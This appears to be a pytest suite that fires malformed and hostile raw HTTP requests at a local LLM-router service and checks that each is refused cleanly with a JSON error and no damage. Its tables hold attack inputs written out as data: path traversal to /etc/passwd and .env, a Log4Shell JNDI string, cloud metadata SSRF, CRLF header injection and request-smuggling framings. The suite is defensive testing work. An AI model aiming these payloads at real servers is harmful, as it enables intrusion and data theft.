"""Requests that no honest client sends, as bytes to a real gunicorn: 4xx in JSON, no harm."""

from __future__ import annotations

import json
import socket
import ssl
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from helpers import (
    CHAT,
    CLOSED,
    Reply,
    connected,
    failures,
    in_flight,
    read_reply,
    user,
    wait_until,
)  # fmt: skip
from service import Service

JSON = "Content-Type: application/json"
LOCAL = "Host: localhost"
LAST = b"0\r\n\r\n"  # chunk
FINE = b'{"model":"router","messages":[{"role":"user","content":"hello"}]}'


def head(line: str, *headers: str) -> bytes:
    """A request head, its text sent as latin-1, so that any byte can stand in it."""
    return "\r\n".join([line, *headers, "", ""]).encode("latin-1")


def get(path: str, *headers: str, version: str = "HTTP/1.1") -> bytes:
    return head(f"GET {path} {version}", LOCAL, *headers)


def post(body: bytes | str, *headers: str, path: str = CHAT, kind: str = JSON) -> bytes:
    """A well-formed POST with any body; `headers` are added, `kind` is its content type."""
    data = body if isinstance(body, bytes) else body.encode()
    lines = [LOCAL, f"Content-Length: {len(data)}", *filter(None, [kind]), *headers]
    return head(f"POST {path} HTTP/1.1", *lines) + data


def chat(**members: object) -> bytes:
    """A chat body that is fine but for `members`."""
    return post(json.dumps({**json.loads(FINE), **members}))


def chunked(*pieces: bytes, headers: tuple[str, ...] = (JSON,), path: str = CHAT) -> bytes:
    """A chunked POST whose framing stands in `pieces` as it is."""
    start = head(f"POST {path} HTTP/1.1", LOCAL, "Transfer-Encoding: chunked", *headers)
    return start + b"".join(pieces)


def chunk(data: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(data), data)


def nested(depth: int) -> str:
    return '{"messages":[{"role":"user","content":"x"}],"x":' + "[" * depth + "]" * depth + "}"


def number(text: str) -> str:
    return FINE.decode()[:-1] + f',"temperature":{text}}}'


def client_hello() -> bytes:
    """The first bytes of a TLS connection."""
    sent = ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), sent, server_hostname="localhost")
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    return sent.read()


def family(make: Callable[[Any], bytes], status: int, **values: Any) -> dict[str, tuple]:
    """Requests that differ in one value, by its name."""
    return {name.replace("_", "-"): (make(value), status) for name, value in values.items()}


def text(data: bytes) -> bytes:
    return post(FINE.replace(b"hello", data))


BODIES = {
    "no-length-at-all": (head(f"POST {CHAT} HTTP/1.1", LOCAL, JSON), 400),
    **family(post, 400, empty_body=b"", not_json="hello", half_json=FINE[:-3],
             comment=b"/* hi */" + FINE, two_values=FINE + FINE,
             trailing_comma=FINE[:-1] + b",}", binary=bytes(range(256)) * 8,
             single_quotes=FINE.replace(b'"', b"'"), blanks_only=" \r\n\t ", nul_bytes=b"\0" * 100,
             json_array=b"[" + FINE + b"]", json_string='"hello"', json_number="42",
             json_null="null", json_true="true"),
    **family(post, 400, latin_1='{"messages":"é"}'.encode("latin-1"),
             utf_16=FINE.decode().encode("utf-16"), utf_32=FINE.decode().encode("utf-32"),
             two_boms=b"\xef\xbb\xbf" * 2 + FINE),
    **family(text, 400, bad_utf_8=b"\xff\xfe", overlong_utf_8=b"\xc0\xaf", cut_utf_8=b"\xe2\x82",
             surrogate_as_utf_8=b"\xed\xa0\x80", nul_in_a_string=b"a\0b",
             newline_in_a_string=b"a\nb", bad_escape=rb"\x41", cut_unicode_escape=rb"\u12"),
    **family(post, 400, depth_65=nested(65), depth_5000=nested(5_000),
             depth_never_closed="[" * 100_000, depth_of_objects_never_closed='{"a":' * 100_000),
    **family(lambda digits: post(number(digits)), 400, nan="NaN", infinity="Infinity",
             minus_infinity="-Infinity", integer_of_5000_digits="9" * 5000, hex_number="0x10",
             number_beyond_all_floats="1e999",
             number_below_all_floats="-1e999", number_of_400_digits="1" * 400 + ".5",
             integer_of_400_digits="-" + "1" * 400, leading_zero="01",
             plus_sign="+1", dot_alone="1."),
}  # fmt: skip

TYPES = {
    **family(post, 422, empty_object="{}", no_messages='{"model":"router"}',
             the_last_of_two_messages_counts=FINE[:-1] + b',"messages":[]}'),
    **family(lambda value: chat(messages=value), 422, messages_empty=[], messages_null=None,
             messages_a_string="hello", messages_an_object={"role": "user"}, messages_a_number=1,
             message_null=[None], message_a_string=["hello"], message_a_list=[[]],
             message_empty=[{}], second_message_wrong=[user("x"), 7]),
    "role-missing": (chat(messages=[{"content": "x"}]), 422),
    **family(lambda role: chat(messages=[{"role": role, "content": "x"}]), 422,
             role_null=None, role_a_number=1, role_a_list=["user"]),
    **family(lambda content: chat(messages=[user(content)]), 422, content_a_number=1,
             content_true=True, content_an_object={"text": "x"}, content_a_list_of_strings=["x"],
             content_a_list_of_null=[None]),
    **family(lambda model: chat(model=model), 422, model_null=None, model_a_number=7,
             model_a_list=["router"], model_an_object={}),
    **family(lambda model: chat(model=model), 404, model_of_no_category="router/../../etc/passwd",
             model_of_no_category_with_a_surrogate="router/\ud800"),
    **family(lambda value: chat(stream=value), 422, stream_a_string="true", stream_a_number=1),
    **family(lambda value: chat(stream_options=value), 422, stream_options_a_list=[],
             include_usage_a_string={"include_usage": "yes"}),
    **family(lambda value: chat(tools=value), 422, tools_an_object={}, tools_of_strings=["bash"]),
    **family(lambda value: chat(tool_choice=value), 422, tool_choice_a_number=1,
             tool_choice_a_list=[]),
    **family(lambda body: post(body, path="/route"), 422, route_empty="{}",
             route_text_a_number='{"text":1}', route_text_null='{"text":null}',
             route_messages_wrong='{"messages":[{}]}'),
}  # fmt: skip

CATEGORY = json.dumps({"name": "creative", "models": ["acme/one"]})
TEXT = "Content-Type: text/plain"
RESET, MAPPING = "/circuit-breaker/reset", "/config/model-mapping"
ADMIN = {
    "category-empty": (post("{}", path="/config/category"), 422),
    "category-name-climbs":
        (post('{"name":"../x","models":["a/b"]}', path="/config/category"), 422),
    "mapping-of-no-category": (post('{"category":"no","models":["acme/one"]}', path=MAPPING), 404),
    "delete-climbs": (head("DELETE /config/category/../../etc HTTP/1.1", LOCAL), 404),
    "delete-a-built-in": (head("DELETE /config/category/code HTTP/1.1", LOCAL), 400),
    "delete-a-surrogate": (head("DELETE /config/category/%ED%A0%80 HTTP/1.1", LOCAL), 404),
    "delete-a-line-break": (head("DELETE /config/category/%0d%0aX:1 HTTP/1.1", LOCAL), 404),
    "if-match-of-another-version":
        (post(CATEGORY, 'If-Match: "nothing"', path="/config/category"), 412),
    "reset-of-no-model": (post("", path=f"{RESET}/no/such/model", kind=""), 404),
    "reset-of-nul": (post("", path=f"{RESET}/%00", kind=""), 404),
    "reset-with-a-form": (post("a=b", path=f"{RESET}-all", kind=TEXT), 415),
}  # fmt: skip

KINDS = {
    "form": (post("a=b", kind="Content-Type: application/x-www-form-urlencoded"), 415),
    "json-as-form": (post(FINE, kind="Content-Type: application/x-www-form-urlencoded"), 415),
    "multipart":
        (post(b"--x\r\n\r\n--x--", kind="Content-Type: multipart/form-data; boundary=x"), 415),
    "multipart-without-boundary": (post("x", kind="Content-Type: multipart/form-data"), 415),
    "text-plain": (post(FINE, kind=TEXT), 415),
    "xml": (post("<a/>", kind="Content-Type: application/xml"), 415),
    "no-content-type": (post(FINE, kind=""), 415),
    "empty-content-type": (post(FINE, kind="Content-Type:"), 415),
    "content-type-of-signs": (post(FINE, kind="Content-Type: ;;;=,/"), 415),
    "json-patch": (post(FINE, kind="Content-Type: application/json-patch+json"), 415),
    "gzip": (post(b"\x1f\x8b\x08\0\0", "Content-Encoding: gzip"), 415),
    "deflate-that-is-none": (post(FINE, "Content-Encoding: deflate"), 415),
    "br-then-identity": (post(FINE, "Content-Encoding: br, identity"), 415),
    "get-with-a-form": (get("/health", "Content-Length: 3", TEXT) + b"a=b", 415),
    "chunked-form": (chunked(LAST, headers=(TEXT,)), 415),
}  # fmt: skip

SIZES = {
    "declared-17-mb": (post("", "X: y").replace(b"Length: 0", b"Length: 17825792"), 413),
    "declared-an-exabyte": (post("").replace(b"Length: 0", b"Length: 1152921504606846976"), 413),
    "chunked-17-mb": (chunked(*[chunk(b" " * 1_048_576)] * 17, LAST), 413),
    "one-chunk-of-17-mb": (chunked(chunk(b" " * 17_825_792), LAST), 413),
    "category-17-mb":
        (post("", path="/config/category").replace(b"Length: 0", b"Length: 17825792"), 413),
    "header-of-100-kb": (get("/health", "X-Long: " + "a" * 100_000), 431),
    "header-of-9-kb": (get("/health", "X-Long: " + "a" * 9_000), 431),
    "200-headers": (get("/health", *[f"X-{n}: 1" for n in range(200)]), 431),
    "one-header-name-of-10-kb": (get("/health", "X" * 10_000 + ": 1"), 431),
    "path-of-3-kb": (get("/" + "a" * 3_000), 404),
    "path-of-100-kb": (get("/" + "a" * 100_000), 414),
    "query-of-100-kb": (get("/health?" + "a" * 100_000), 414),
    "model-id-of-4-kb": (get("/v1/models/" + "a/" * 1_900), 404),
    "method-of-100-kb": (head("G" * 100_000 + " / HTTP/1.1", LOCAL), 414),
}  # fmt: skip

FRAMES = {
    "two-lengths": (post(FINE, "Content-Length: 5"), 400),
    "two-equal-lengths": (post(FINE, f"Content-Length: {len(FINE)}"), 400),
    **family(lambda length: post("").replace(b"Length: 0", f"Length: {length}".encode()), 400,
             lengths_in_a_list="5, 5", negative_length=-1, length_with_plus="+5",
             length_in_hex="0x5", length_a_word="five", length_empty="",
             length_in_arabic_digits="٥", length_of_5000_digits="9" * 5000),
    "te-and-cl": (chunked(chunk(FINE), LAST, headers=(JSON, "Content-Length: 5")), 400),
    "cl-and-te": (post(FINE, "Transfer-Encoding: chunked"), 400),
    "te-gzip": (post(b"", "Transfer-Encoding: gzip").replace(b"Content-Length: 0\r\n", b""), 400),
    "te-empty": (post(FINE, "Transfer-Encoding:"), 400),
    **family(lambda coding: chunked(LAST).replace(b": chunked", b": " + coding), 400,
             te_gzip_chunked=b"gzip, chunked", te_chunked_gzip=b"chunked, gzip",
             te_twice_chunked=b"chunked, chunked", te_unknown=b"xchunked", te_quoted=b'"chunked"',
             te_with_a_parameter=b"chunked;a=b", te_with_a_comma=b",chunked",
             te_with_a_hard_blank=b"chunked\xa0", te_with_a_vertical_tab=b"\x0bchunked"),
    "te-in-http-1.0": (chunked(LAST).replace(b"HTTP/1.1", b"HTTP/1.0"), 400),
    **family(lambda size: chunked(size + b"\r\nhello\r\n" + LAST), 400, chunk_size_no_hex=b"xyz",
             chunk_size_negative=b"-5", chunk_size_with_0x=b"0x5", chunk_size_underscore=b"1_0",
             chunk_size_empty=b"", chunk_size_too_small=b"3", chunk_size_too_large=b"7",
             chunk_extension_with_a_bare_newline=b"5;a\nb",
             chunk_extension_of_100_kb=b"5;" + b"a" * 100_000),
    "chunk-without-line-end": (chunked(b"5\r\nhello0\r\n\r\n"), 400),
    "trailer-without-colon": (chunked(chunk(FINE), b"0\r\nbad trailer\r\n\r\n"), 400),
    "trailer-with-nul": (chunked(chunk(FINE), b"0\r\nX: a\0b\r\n\r\n"), 400),
    "trailer-of-100-kb": (chunked(chunk(FINE), b"0\r\nX: " + b"a" * 100_000 + b"\r\n\r\n"), 400),
    "chunked-bad-utf-8": (chunked(chunk(b'{"a":"\xff"}'), LAST), 400),
    "chunked-nothing": (chunked(LAST), 400),
    "chunked-lies-to-the-admin": (chunked(b"zz\r\n", path="/config/category"), 400),
    "chunked-lies-to-the-dry-run": (chunked(b"zz\r\n", path="/route"), 400),
}  # fmt: skip

LINES = {
    "no-host": (head("GET /health HTTP/1.1"), 403),
    "empty-host": (head("GET /health HTTP/1.1", "Host:"), 403),
    "two-hosts": (get("/health", "Host: evil.example"), 400),
    "nul-in-the-path": (get("/hea\0lth"), 400),
    "header-folded": (get("/health", "X: a", " b"), 400),
    "header-folded-first": (head("GET /health HTTP/1.1", " Host: localhost"), 400),
    **family(
        lambda line: get("/health", line),
        400,
        nul_in_a_header="X: a\0b",
        nul_in_a_header_name="X\0: a",
        header_with_a_bare_cr="X: a\rb",
        header_without_colon="hello",
        header_without_name=": hello",
        header_name_with_blank="X : hello",
        header_name_not_ascii="Xé: hello",
        header_name_with_brackets="X(y): hello",
        control_in_a_header="X: \x01\x7f",
    ),
    "version-missing": (b"GET /health\r\nHost: localhost\r\n\r\n", 400),
    **family(
        lambda version: get("/health", version=version),
        400,
        version_9_9="HTTP/9.9",
        version_0_9="HTTP/0.9",
        version_2_0="HTTP/2.0",
        version_in_lower_case="http/1.1",
        version_of_another_protocol="RTSP/1.0",
        version_with_many_digits="HTTP/1.11",
    ),
    "http-2-preface": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0", 400),
    **family(
        lambda method: head(f"{method} /health HTTP/1.1", LOCAL),
        400,
        method_in_lower_case="get",
        method_of_signs="<script>",
        method_empty="",
    ),
    **family(
        lambda method: head(f"{method} /health HTTP/1.1", LOCAL),
        405,
        method_unknown="BREW",
        method_trace="TRACE",
        method_options="OPTIONS",
    ),
    "method-options-star": (head("OPTIONS * HTTP/1.1", LOCAL), 404),
    "method-connect": (head("CONNECT evil.example:443 HTTP/1.1", LOCAL), 404),
    "method-get-on-chat": (get(CHAT), 405),
    "method-put-on-config": (head("PUT /config HTTP/1.1", LOCAL), 405),
    "method-patch-on-a-category": (head("PATCH /config/category/code HTTP/1.1", LOCAL), 405),
    "line-feeds-alone": (b"GET /health HTTP/1.1\nHost: localhost\n\n", 400),
    "tabs-for-blanks": (get("/health").replace(b"GET /health ", b"GET\t/health\t"), 400),
    "control-in-the-path": (get("/hea\x01lth"), 400),
    "two-content-types": (post(FINE, "Content-Type: text/plain"), 400),
    "websocket": (get("/", "Upgrade: websocket", "Connection: Upgrade"), 400),
    "line-of-words": (b"hello there general\r\n\r\n", 400),
    "line-of-four-parts": (head("GET /health HTTP/1.1 x", LOCAL), 400),
    "line-of-blanks": (b"   \r\n\r\n", 400),
    "line-of-bytes": (b"\xff\xfe\xfd\r\n\r\n", 400),
    "smtp": (b"EHLO evil.example\r\nMAIL FROM:<a@b>\r\n\r\n", 400),
    "redis": (b"*1\r\n$4\r\nINFO\r\n\r\n", 400),
    "proxy-protocol": (b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + get("/health"), 400),
    "expect-a-wonder": (post(FINE, "Expect: wonder"), 417),
    "expect-twice": (post(FINE, "Expect: 100-continue, wonder"), 417),
    "expect-and-lie": (post("nonsense", "Expect: 100-continue"), 400),
}

PATHS = {
    "absolute-form-of-another-host": (get("http://evil.example/health"), 403),
    "absolute-form-of-a-metadata-service": (get("http://169.254.169.254/latest/meta-data"), 404),
    "absolute-form-of-a-half-ipv6": (get("http://[::1/health"), 400),
    "absolute-form-not-ascii": (get("http://\xbd/health"), 400),
    **family(get, 404, model_of_brackets="/v1/models/http://x[", brackets="//[",
             path_parameter="/health;a=b", path_of_another_host="//evil.example/",
             encoded_nul="/health%00", encoded_nul_in_a_model="/v1/models/%00",
             encoded_bad_utf_8="/v1/models/%ff%fe", encoded_half_a_byte="/health%",
             encoded_no_hex="/%zz", encoded_line_break="/v1/models/%0d%0aSet-Cookie:%20a=b",
             climbing="/../../etc/passwd", climbing_from_models="/v1/models/../../../etc/passwd",
             climbing_encoded="/%2e%2e/%2e%2e/etc/passwd",
             climbing_with_backslashes="/..\\..\\etc\\passwd", climbing_to_the_source="/router.py",
             climbing_to_the_routes="/routes.json", climbing_to_git="/.git/config",
             climbing_to_env="/.env", template="/{{7*7}}", upper_case="/HEALTH",
             log4j="/${jndi:ldap://evil.example/a}", fragment="/nothing#health"),
    **family(get, 400, bytes_that_are_not_ascii="/v1/models/\xe9\xff", star="*", no_slash="health"),
    "double-slash-before-a-closed-door":
        (post("", "Via: x", path=f"/{RESET}-all", kind=""), 403),
    "closed-door-spelled-otherwise":
        (post("", "Via: x", path="/%63ircuit-breaker/reset-all", kind=""), 403),
    "slash-at-the-end": (post(FINE, path=CHAT + "/"), 404),
}  # fmt: skip

HOSTS = {
    "foreign": "evil.example", "that-begins-like-ours": "localhost.evil.example",
    "with-a-user": "localhost@evil.example", "with-a-comma": "localhost, evil.example",
    "with-a-path": "evil.example/localhost", "not-ascii": "\xe9vil",
    "with-a-port-of-letters": "localhost:evil.example", "half-an-ipv6": "[::1",
    "after-a-bracket": "[localhost]evil.example", "a-bare-integer": "2130706433",
    "of-signs": "<script>",
}  # fmt: skip
ORIGINS = {
    "foreign": "https://evil.example", "null": "null", "empty": "", "of-signs": "http://[::1",
    "of-another-port": "http://localhost:1", "half-an-ipv6": "http://[evil", "no-scheme": "//",
    "with-odd-letters": "http://evil\u00bd.example", "no-address": "http://[x]",
}  # fmt: skip
DOORS = {
    **{f"host-{name}": (head("GET /health HTTP/1.1", f"Host: {host}"), 403)
       for name, host in HOSTS.items()},
    **{f"origin-{name}": (post(FINE, f"Origin: {origin}"), 403)
       for name, origin in ORIGINS.items()},
    **{f"site-{site}": (post(FINE, f"Sec-Fetch-Site: {site}"), 403)
       for site in ("cross-site", "same-site", "hello")},
    "foreign-page-resets-circuits":
        (post("", "Origin: https://evil.example", path=f"{RESET}-all", kind=""), 403),
    "admin-behind-a-proxy":
        (post(CATEGORY, "X-Forwarded-For: 127.0.0.1", path="/config/category"), 403),
    "admin-over-http-1.0":
        (post(CATEGORY, path="/config/category").replace(b"HTTP/1.1", b"HTTP/1.0"), 403),
    "admin-under-an-address-not-ours":
        (post("", path=f"{RESET}-all", kind="").replace(b"localhost", b"192.0.2.1"), 403),
}  # fmt: skip

ENDS = {
    "nothing-at-all": (b"", {CLOSED}),
    "one-byte": (b"G", {CLOSED}),
    "half-a-line": (b"GET /hea", {CLOSED}),
    "half-a-head": (b"GET /health HTTP/1.1\r\nHost: loc", {CLOSED}),
    "line-ends-only": (b"\r\n\r\n\r\n", {CLOSED, 400}),
    "body-cut-short": (post(FINE)[:-10], {CLOSED, 499}),
    "body-never-sent": (post(FINE)[: -len(FINE)], {CLOSED, 499}),
    "chunk-cut-short": (chunked(b"40\r\n" + FINE[:20]), {CLOSED, 400, 499}),
    "chunks-never-end": (chunked(chunk(FINE)), {CLOSED, 400, 499}),
    "chunk-size-huge": (chunked(b"f" * 400 + b"\r\nhello\r\n"), {CLOSED, 400, 413, 499}),
    "chunk-size-cut-short": (chunked(b"4"), {CLOSED, 400, 499}),
    "admin-body-cut-short": (post(CATEGORY, path="/config/category")[:-5], {CLOSED, 499}),
    "dry-run-body-cut-short": (post('{"text":"a"}', path="/route")[:-5], {CLOSED, 499}),
    "expected-body-never-sent": (post(FINE, "Expect: 100-continue")[: -len(FINE)], {CLOSED, 499}),
    "tls-client-hello": (client_hello(), {CLOSED, 400}),
    "ssh": (b"SSH-2.0-OpenSSH_9.2p1\r\n", {CLOSED, 400}),
    "random-bytes": (bytes(range(256)) * 40, {CLOSED, 400, 414}),
}


# Odd, and none of it malformed enough to be refused; what counts is that nothing breaks.
ODD = {
    "model-a-lone-surrogate": chat(model="\ud800"),
    "model-with-a-line-break": chat(model="a\r\nX-Injected: 1"),
    "model-of-5000": chat(model="é" * 5_000),
    "content-a-lone-surrogate": chat(messages=[user("hello \ud800")]),
    "content-of-nul": chat(messages=[user("\0" * 1000)]),
    "content-of-accents": chat(messages=[user("\u0300" * 50_000)]),
    "content-of-empty-parts": chat(messages=[user([{}, {"type": "text"}, {"text": [1]}])]),
    "content-of-odd-types": chat(messages=[user([{"type": {"a": []}, "text": 5}])]),
    "content-of-marks-never-closed": chat(messages=[user("<system-reminder>" * 5_000)]),
    "role-unknown": chat(messages=[{"role": "\ud800", "content": "x"}]),
    "tools-of-nothing": chat(tools=[{}] * 3_000),
    "tool-choice-of-nothing": chat(tool_choice={}),
    "number-of-308-digits": post(number("9" * 308)),
    "largest-of-all-floats": post(number("1.7976931348623157e308")),
    "400-digits-in-a-string": post(FINE.replace(b"hello", b"9" * 400)),
    "route-model-a-lone-surrogate": post(r'{"text":"x","model":"\ud800"}', path="/route"),
    "accept-of-no-version": get("/metrics", "Accept: application/openmetrics-text; version=abc"),
    "accept-of-half-a-version": get("/metrics", "Accept: text/plain; version=1..0"),
    "accept-not-ascii": get("/metrics", "Accept: text/plain; version=\xe9"),
    "accept-of-signs": get("/metrics", "Accept: text/plain;;=;q=x,,"),
    "query-of-bad-utf-8": get("/metrics?format=%ff%fe&%00"),
    "key-not-ascii": get("/health", "Authorization: Bearer \xff\xfe"),
    "range": get("/health", "Range: bytes=0-99999999999999999999"),
    "http-2-upgrade": get("/health", "Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings"),
    "scheme-headers-at-odds": get("/health", "X-Forwarded-Proto: https", "X-Forwarded-Ssl: off"),
    "script-name": get("/health", "SCRIPT_NAME: /x"),
    "path-info": get("/health", "PATH_INFO: /x"),
    "length-with-underscore": post(FINE, "Content_Length: 5"),
    "charset-utf-16": post(FINE, kind="Content-Type: application/json; charset=utf-16"),
    "chunk-lies-nobody-reads": chunked(b"zz\r\n", path="/circuit-breaker/reset-all"),
}


@pytest.fixture(scope="module", autouse=True)
def nothing_is_logged_as_a_bug(shared_service: Service) -> Iterator[None]:
    """After all of them: no bug of ours and no traceback of gunicorn's in the log."""
    before = len(shared_service.log.read_text())
    yield
    lines = shared_service.log.read_text()[before:].splitlines()
    assert [line for line in lines if "internal_error" in line or "Traceback" in line] == []


def send(service: Service, data: bytes, *, leave: bool = False) -> list[Reply]:
    """The answers to `data`: the first, or all until the end when we `leave` after sending."""
    with connected(service) as sock:
        try:
            sock.sendall(data)
            if leave:
                sock.shutdown(socket.SHUT_WR)
        except (BrokenPipeError, ConnectionResetError):
            pass  # it answered and closed before it had read all
        try:
            with sock.makefile("rb") as file:
                replies = [read_reply(file)]
                while leave and replies[-1].status:
                    replies.append(read_reply(file))
                return replies
        except ConnectionResetError:
            return [Reply(CLOSED, {}, b"")]


def assert_envelope(reply: Reply) -> None:
    error = reply.json["error"]

    assert reply.headers["content-type"] == "application/json"
    assert set(error) == {"message", "type", "param", "code"}
    assert error["message"]


def assert_unharmed(service: Service) -> None:
    """A usual chat is answered, nobody is blamed, and soon nothing is left in the air."""
    assert service.chat().json()["choices"][0]["message"]["content"] == "Hello from upstream"
    assert failures(service) == {}
    wait_until(lambda: in_flight(service) == 0)


def cases(table: dict[str, tuple]) -> list:
    return [pytest.param(*case, id=name) for name, case in table.items()]


REFUSED = {**BODIES, **TYPES, **ADMIN, **KINDS, **SIZES, **FRAMES, **LINES, **PATHS, **DOORS}


@pytest.mark.parametrize(("data", "status"), cases(REFUSED))
def test_a_malformed_request_gets_a_4xx_with_the_envelope(service, data, status):
    reply = send(service, data)[0]

    assert reply.status == status, reply.body[:300]
    assert_envelope(reply)
    assert_unharmed(service)


@pytest.mark.parametrize(("data", "statuses"), cases(ENDS))
def test_a_request_that_ends_too_early_is_refused_or_closed(service, data, statuses):
    *replies, last = send(service, data, leave=True)

    assert last.status == CLOSED
    assert {reply.status for reply in replies or [last]} <= statuses
    for reply in replies:
        assert_envelope(reply)
    assert_unharmed(service)


@pytest.mark.parametrize("data", [pytest.param(data, id=name) for name, data in ODD.items()])
def test_an_odd_request_is_answered_and_breaks_nothing(service, data):
    reply = send(service, data)[0]

    assert reply.status == 200, reply.body[:300]
    assert "x-injected" not in reply.headers
    assert_unharmed(service)


GARBAGE = {
    "a-word": b"nonsense\r\n\r\n",
    "a-second-length": post(FINE, "Content-Length: 1"),
    "a-body-after-get": FINE,
    "bytes": bytes(range(256)),
    "a-smuggled-request-to-the-admin": post("", "Via: x", path="/circuit-breaker/reset-all"),
}


@pytest.mark.parametrize("garbage", [pytest.param(g, id=name) for name, g in GARBAGE.items()])
def test_garbage_behind_a_good_request_spoils_only_itself(service, garbage):
    first, *others, last = send(service, get("/health") + garbage, leave=True)

    assert first.status == 200
    assert {reply.status for reply in others} <= {400, 403}
    for reply in others:
        assert_envelope(reply)
    assert last.status == CLOSED
    assert_unharmed(service)
